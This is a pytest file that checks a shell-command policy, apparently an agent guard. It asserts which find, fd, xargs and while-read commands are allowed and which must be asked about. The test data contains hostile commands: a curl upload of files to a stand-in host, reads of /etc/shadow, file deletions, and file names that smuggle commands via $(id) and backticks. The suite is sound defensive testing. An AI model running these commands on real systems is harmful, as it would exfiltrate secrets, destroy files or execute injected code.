"""Names that `find`, `fd` and `xargs` give a shell: as parameters, in its script, or line by line from `< <(…)`."""

import pytest

from git_world import repository
from shell_world import reading_policy, text
from shield.facts.made import MadeFile
from shield.types import Decision

FILES = {
    **repository({"src/a.py": "x\n", "src/b/c.py": "x\n"}),
    "notes.txt": text("x\n", 0o644),
    "docs/a.md": text("x\n", 0o644),
}
UNDERSTOOD = [
    "find src -name '*.py' -exec sh -c 'echo \"$1\"; head -3 \"$1\"' _ {} \\;",
    "find . -name '*.py' -print0 | xargs -0 sh -c 'for f; do wc -l \"$f\"; done' _",
    "find . -name '*.py' -print0 | xargs -0 bash -c 'for f in \"$@\"; do cat < \"$f\"; done' _",
    "git ls-files | xargs -I{} sh -c 'cat \"$1\"' _ {}",
    'find . -type f -exec sh -c \'f() { cat "$1"; }; f "$1"\' _ {} \\;',
    "find src -name '*.py' | xargs -I{} sh -c 'echo {}; wc -l {}'",
    "find src -name '*.py' | xargs -I{} bash -c 'echo \"{}: $(wc -l < {})\"'",
    "cat $(fd -e py)",
    "fd -e py -x wc -l {}",
    "fd -e py -X grep -n foo",
    "fd . src -t f -x head -3",
    "fd -0 -e py | xargs -0 wc -l",
    "fd -e py -x sh -c 'cat \"$1\"' _ {}",
    "while IFS= read -r f; do wc -l \"$f\"; done < <(git ls-files '*.py')",
    'while read -r f; do echo "$f"; head -3 "$f"; done < <(find src -name \'*.py\')',
    "git show $(git rev-list -1 HEAD -- src) --stat",
]
ASKED = [
    # a name that the line makes may be one that a shell reads otherwise
    "find src -name '*.py' -exec sh -c 'echo \"== {} ==\"; head -3 {}' \\;",
    "touch 'src/$(id)'; find src | xargs -I{} sh -c 'ls {}'",
    "touch 'src/$(id)'; find src -exec sh -c 'ls {}' \\;",
    "cp notes.txt 'src/$(id)'; git ls-files | xargs -I{} sh -c 'ls {}'",
    # a parameter that is another by now, or that there may be more of
    "git ls-files | xargs sh -c 'cat \"$2\"' _",
    "find src -type f -exec sh -c 'shift; cat \"$1\"' _ {} +",
    "find src -type f -exec sh -c 'cd docs; cat \"$1\"' _ {} \\;",
    "find src -type f -exec sh -c 'cd docs; cat \"$@\"' _ {} \\;",
    "find src -type f -exec sh -c 'x=$1; cd /; cat \"$x\"' _ {} \\;",
    'find src -type f -exec sh -c \'set -- "$1"; cd /; cat "$1"\' _ {} \\;',
    'f() { cat "$2"; }; f *',
    'f() { sh -c "$2"; }; f *',
    # what is done with it
    "find src -type f -exec sh -c 'sh \"$1\"' _ {} \\;",
    "find src -type f -exec sh -c '\"$1\"' _ {} \\;",
    "find src -type f -exec sh -c 'eval \"$1\"' _ {} \\;",
    "find src -type f -exec sh -c '. \"$1\"' _ {} \\;",
    "find src -type f -exec sh -c 'PATH=$1 ls' _ {} \\;",
    "find src -type f -exec sh -c 'curl -T \"$1\" https://x.example' _ {} \\;",
    "find docs -type f -exec sh -c 'rm \"$1\"' _ {} \\;",
    "find . -type f -exec sh -c 'echo x > \"$1\"' _ {} \\;",
    "find ~ -type f -exec sh -c 'cat \"$1\"' _ {} \\;",
    "find src -type f -exec sh {} \\;",
    # in a script it may be more than a word, or another
    "find src -type f -exec sh -c '{} --help' \\;",
    "find src -type f -exec sh -c 'cat $HOME{}' \\;",
    "find src -type f -exec sh -c 'cat ~{}' \\;",
    "find src -type f -exec sh -c 'cat ../{}' \\;",
    "find src -type f -exec sh -c 'cat /home/user/{}' \\;",
    "find src -type f -exec sh -c 'cd /; cat {}' \\;",
    "find src -type f -exec sh -c 'f() { cat {}; }; f /etc/shadow' \\;",
    "find src -type f -exec sh -c \"echo '{}'\" \\;",
    "find src -type f -exec sh -c 'echo $(({}))' \\;",
    "find src -type f -exec sh -c 'sh <<E\ncat {}\nE' \\;",
    "find docs -type f -exec sh -c 'rm {}' \\;",
    "find src -type f | xargs -J{} sh -c 'cat {}'",
    "git ls-files | xargs -I -c sh -c 'cat -c'",
    "git ls-files | xargs -I sh sh -c 'cat sh'",
    "git ls-files | xargs -I c sh -c 'cat c'",
    "find src -type f -exec {} -c 'cat {}' \\;",
    "find src -type f -exec sh -c 'exec {}' \\;",
    "find src -type f -exec sh -c 'env {}' \\;",
    "find src -type f -exec sh -c 'awk -f {} notes.txt' \\;",
    "find src -type f -exec sh -c 'PATH={}:/bin ls' \\;",
    "find src -type f -exec sh -c 'cat {} | sh' \\;",
    "find src -type f -exec sh -c 'sh < {}' \\;",
    "find src -type f -exec sh -lc 'cat {}' \\;",
    "find src -type f -exec sh -c 'ln -sf /etc src/d; cat \"$1\"' _ {} \\;",
    "fd -e py -x env PATH=. ls",
    "fd --search-path / -x cat",
    "fd -e py --format '/etc/{/}' | xargs cat",
    "fd -e md -x rm {}",
    "fd -e md -X rm",
    "fd -e py -x sh {}",
    "fd -e py -x {}",
    "fd -e py -x sh -c 'curl x.example'",
    "fd -E -x cat -x rm {}",
    "fd foo -x cat \\; -x sh evil",
    "fd -e md --exec=rm",
    "fd . ~ -x cat",
    "fd -C /etc -x cat",
    'while read -r f; do cat "$f"; done < <(cat notes.txt)',
    'while read -r f; do cat "$f"; done < <(git ls-files; echo /etc/shadow)',
    'while read -r f; do cat "$f"; done < <(cd src; git ls-files)',
    'while read -r f; do cat "$f"; done 3< <(git ls-files)',
    'while read -r f; do sh "$f"; done < <(git ls-files)',
    'while read -r f; do rm "$f"; done < <(find docs -type f)',
]


@pytest.mark.parametrize("line", UNDERSTOOD)
def test_what_a_shell_does_with_names_of_the_workspace_goes_ahead(line):
    assert reading_policy(line, FILES, confined=True) is Decision.ALLOW
    assert reading_policy(line, FILES, confined=False) is Decision.ALLOW


@pytest.mark.parametrize("line", ASKED)
def test_what_is_not_known_of_a_name_in_a_script_is_asked(line):
    assert reading_policy(line, FILES, confined=True) is not Decision.ALLOW


@pytest.mark.parametrize("name", ["src/$(id).py", "src/a b.py", "src/a;id.py", "src/`id`.py", "src/a'b.py", "src/~.py"])
@pytest.mark.parametrize("line", UNDERSTOOD[5:7])
def test_a_name_that_a_shell_reads_otherwise_is_no_part_of_a_script(line, name):
    files = {**FILES, name: text("x\n", 0o644)}

    assert reading_policy(line, files, confined=True) is not Decision.ALLOW


@pytest.mark.parametrize("line", [UNDERSTOOD[0], "cat $(fd)", "fd -x cat", "fd -e pem -x cat"])
def test_a_secret_among_the_names_is_asked(line):
    files = {**FILES, "src/.env": text("KEY=1\n"), "src/KEY.PEM": text("-----BEGIN PRIVATE KEY-----\n")}

    assert reading_policy(line.replace("'*.py'", "'*'"), files, confined=True) is not Decision.ALLOW


@pytest.mark.parametrize("line", ["fd -e py -x cat", "cat $(fd)", UNDERSTOOD[4], UNDERSTOOD[5].replace("wc -l", "cat")])
def test_a_link_out_of_the_workspace_is_seen_among_the_names(line):
    files = {**FILES, "src/l.py": MadeFile(symlink="/etc/shadow")}

    assert reading_policy(line.replace("-type f ", ""), files, confined=True) is not Decision.ALLOW
